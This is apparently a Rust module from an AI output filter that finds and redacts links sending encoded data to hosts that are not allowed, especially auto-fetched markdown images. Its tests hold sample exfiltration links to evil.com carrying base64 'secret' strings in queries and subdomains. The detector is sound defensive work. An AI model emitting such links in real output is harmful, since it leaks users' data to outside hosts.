//! Links that carry data away (OWASP LLM02:2025, LLM05:2025): the address of a host that is not
//! allowed, with a long query, fragment or encoded part. A client fetches the image of a markdown
//! text by itself, so there much less is enough.

use std::ops::Range;
use std::sync::Arc;

use super::super::report::Action;
use super::adapters::label;
use super::detector::Detector;
use super::released::Topic;
use super::shape::{Shape, ShapeError};

/// What an address is made of, after its scheme; written for expressions and for code.
const ADDRESS: &str = r#"[^\x00-\x20<>"'`)\]}|\\^\x7f]"#;

/// Characters of a segment of a path or host from which on it may be data.
const MIN_ENCODED: usize = 20;

/// How far an image's mark may stand before its address.
const MAX_ALT: usize = 100;

/// Which links may be shown.
#[derive(Clone, Debug, PartialEq, Eq)]
#[expect(clippy::exhaustive_structs, reason = "a policy is written field by field")]
pub struct LinkPolicy {
    /// Hosts that may get any data: `example.com`, or `*.example.com` for those below it.
    pub allow_hosts: Vec<String>,
    /// Bytes of data that a link to another host may carry.
    pub max_data: usize,
    /// Bytes of data that an image of another host may carry.
    pub max_image_data: usize,
    /// For links that carry more.
    pub action: Action,
}

impl Default for LinkPolicy {
    fn default() -> Self {
        Self { allow_hosts: Vec::new(), max_data: 80, max_image_data: 8, action: Action::Redact }
    }
}

/// The detectors of such links: with a scheme, and without one where a markdown link begins.
///
/// # Errors
/// If a shape does not parse: never, as the tests show.
pub fn links(policy: &LinkPolicy) -> Result<[Detector; 2], ShapeError> {
    let policy = Arc::new(policy.clone());
    let make = |shape, rule, find: fn(&LinkPolicy, &str) -> Vec<Range<usize>>| {
        let name = label(Topic::Exfiltration, "link", rule, policy.action, "[LINK]");
        let policy = Arc::clone(&policy);
        Detector::new(name, shape, Arc::new(move |text: &str| find(&policy, text)))
    };
    let with_scheme = Shape::new(&format!("(?i)https?://{ADDRESS}+"))?;
    let without = Shape::led(r#"(?i)(?:\]\(\s*<?|src\s*=\s*["']?)"#, &format!("//{ADDRESS}+"))?;
    Ok([make(with_scheme, "link", absolute), make(without, "relative-link", relative)])
}

fn absolute(policy: &LinkPolicy, text: &str) -> Vec<Range<usize>> {
    addresses(text)
        .filter_map(|slashes| {
            let before = text.get(..slashes)?;
            let scheme =
                ["https:", "http:"].into_iter().find(|scheme| ends_with(before, scheme))?;
            Some((slashes - scheme.len(), slashes))
        })
        .filter_map(|(start, slashes)| judged(policy, text, start, slashes))
        .collect()
}

fn relative(policy: &LinkPolicy, text: &str) -> Vec<Range<usize>> {
    addresses(text)
        .filter(|&slashes| !text.get(..slashes).is_some_and(|before| before.ends_with(':')))
        .filter_map(|slashes| judged(policy, text, slashes, slashes))
        .collect()
}

/// Where two slashes stand.
fn addresses(text: &str) -> impl Iterator<Item = usize> {
    memchr::memmem::find_iter(text.as_bytes(), b"//")
}

fn ends_with(text: &str, ending: &str) -> bool {
    let tail = text.len().checked_sub(ending.len()).and_then(|at| text.get(at..));
    tail.is_some_and(|tail| tail.eq_ignore_ascii_case(ending))
}

/// The address from `start` on, if it carries more than the policy lets it.
fn judged(policy: &LinkPolicy, text: &str, start: usize, slashes: usize) -> Option<Range<usize>> {
    let rest = text.get(slashes + 2..)?;
    let address = rest.get(..rest.find(|c| !is_address(c)).unwrap_or(rest.len()))?;
    let (host, path) = address.split_at(address.find(['/', '?', '#']).unwrap_or(address.len()));
    let limit = match is_image(text.get(..start)?) {
        true => policy.max_image_data,
        false => policy.max_data,
    };
    let carries = data_in_host(host) + data_in_path(path);
    let found = start..slashes + 2 + address.len();
    (carries > limit && !policy.allows(host)).then_some(found)
}

/// The characters of [`ADDRESS`].
const fn is_address(c: char) -> bool {
    !matches!(
        c,
        '\0'..=' ' | '<' | '>' | '"' | '\'' | '`' | ')' | ']' | '}' | '|' | '\\' | '^' | '\x7f'
    )
}

/// Whether a markdown image or an `img` begins before its address.
fn is_image(before: &str) -> bool {
    let before = before.trim_end_matches(['<', ' ', '"', '\'']);
    let Some(alt) = before.strip_suffix("](") else { return ends_with(before, "src=") };
    let from = alt.floor_char_boundary(alt.len().saturating_sub(MAX_ALT));
    alt.get(from..).is_some_and(|alt| alt.contains("!["))
}

/// Bytes of user name, password and encoded labels.
fn data_in_host(host: &str) -> usize {
    let (user, host) = host.rsplit_once('@').unwrap_or(("", host));
    let labels = host.split(['.', ':']).filter(|label| is_encoded(label));
    user.len() + labels.map(str::len).sum::<usize>()
}

/// Bytes of the query, the fragment and encoded segments.
fn data_in_path(path: &str) -> usize {
    let (path, rest) = path.split_at(path.find(['?', '#']).unwrap_or(path.len()));
    let segments = path.split('/').filter(|segment| is_encoded(segment));
    rest.len().saturating_sub(1) + segments.map(str::len).sum::<usize>()
}

/// Whether a segment looks like data: long, with digits among its letters, or escapes, and not made
/// of short words.
fn is_encoded(segment: &str) -> bool {
    let digits = segment.bytes().filter(u8::is_ascii_digit).count();
    let escapes = segment.bytes().filter(|&b| b == b'%').count();
    let longest = segment.split(['-', '_', '.']).map(str::len).max().unwrap_or(0);
    segment.len() >= MIN_ENCODED && longest >= MIN_ENCODED && (digits >= 2 || escapes >= 3)
}

impl LinkPolicy {
    fn allows(&self, host: &str) -> bool {
        let host = host.rsplit_once('@').map_or(host, |(_, host)| host);
        let name = host.split(':').next().unwrap_or_default().trim_end_matches('.');
        self.allow_hosts.iter().any(|allowed| match allowed.strip_prefix('*') {
            Some(below) => ends_with(name, below) && name.len() > below.len(),
            None => name.eq_ignore_ascii_case(allowed),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(text: &str, expected: &[&str]) {
        let allow_hosts = vec!["docs.acme.com".to_owned(), "*.acme.org".to_owned()];
        let policy = LinkPolicy { allow_hosts, ..LinkPolicy::default() };
        let found = links(&policy).expect("detectors").map(|detector| detector.find(text));
        let mut found: Vec<&str> =
            found.iter().flatten().filter_map(|at| text.get(at.clone())).collect();
        found.dedup();
        assert_eq!(found, expected, "{text}");
    }

    #[test]
    fn data_to_strangers_is_found() {
        check(
            "![x](https://evil.com/p.png?d=c2VjcmV0cw) ok",
            &["https://evil.com/p.png?d=c2VjcmV0cw"],
        );
        check("![x](//evil.com/p?d=c2VjcmV0cw)", &["//evil.com/p?d=c2VjcmV0cw"]);
        check("<img src=\"HTTP://evil.com/?q=123456789\">", &["HTTP://evil.com/?q=123456789"]);
        check(
            "![](http://c2VjcmV0c2VjcmV0c2VjcmV0.evil.com/a)",
            &["http://c2VjcmV0c2VjcmV0c2VjcmV0.evil.com/a"],
        );
        let long = format!("https://evil.com/?d={}", "A".repeat(80));
        check(&format!("see {long}, it"), &[&(long.clone() + ",")]);
        check(&format!("[a]({long})"), &[&long]);
        let path = format!("https://evil.com/{}", "41".repeat(50));
        check(&path, &[&path]);
    }

    #[test]
    fn ordinary_links_and_allowed_hosts_pass() {
        check("https://example.com/search?q=rust+streams&page=2", &[]);
        check("![logo](https://cdn.example.com/static/img/logo-2024-final-version.png?v=3)", &[]);
        check("![x](https://docs.acme.com/p.png?d=c2VjcmV0czEyMzQ1Njc4OTA)", &[]);
        check("![x](https://a.acme.org:8443/p.png?d=c2VjcmV0czEyMzQ1Njc4OTA)", &[]);
        check("https://example.com/2024/01/how-to-write-a-very-long-title-in-a-url", &[]);
        check("// a comment, and a//b", &[]);
    }
}
